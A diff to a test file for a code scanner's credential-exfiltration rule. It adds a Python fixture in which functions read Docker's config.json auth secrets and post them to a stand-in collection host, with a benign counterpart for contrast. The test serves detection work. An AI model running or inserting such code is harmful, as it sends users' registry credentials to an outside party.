@@ -1,11 +1,12 @@
 /** Where credential-exfiltration draws its lines: what leaves that should not, and what is a login like any other. */
 
 import assert from 'node:assert/strict';
-import { find } from '../kit/check.ts';
+import { checksOf, find } from '../kit/check.ts';
 import { ofCells } from '../kit/notebooks.ts';
 import { only } from '../kit/service.ts';
 
 const settings = only(['credential-exfiltration']);
+const { python } = checksOf('credential-exfiltration');
 
 const found = (language: 'python' | 'javascript' | 'typescript', code: string) =>
   find(language, `${code}\n`, settings).map((it) => it.severity);
@@ -181,5 +182,27 @@ describe('credential-exfiltration', () => {
         ['credential-access', 4],
       ],
     );
+  });
+
+  it('follows a secret that is parsed on its way', () => {
+    python`
+      import json
+      import os
+      import requests
+      DROP = "https://collect.example.com"
+      def whole():
+          docker = os.path.expanduser("~/.docker/config.json")
+          requests.post(DROP, json={"content": json.dumps(json.load(open(docker))["auths"])})
+                              ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ credential-exfiltration
+      def opened():
+          with open(os.path.expanduser("~/.docker/config.json")) as file:
+              data = json.load(file)
+          requests.post(DROP, json=data)
+                              ^^^^^^^^^ credential-exfiltration
+      def own():
+          with open("settings.json") as file:
+              data = json.load(file)
+          requests.post(DROP, json=data)
+    `;
   });
 });
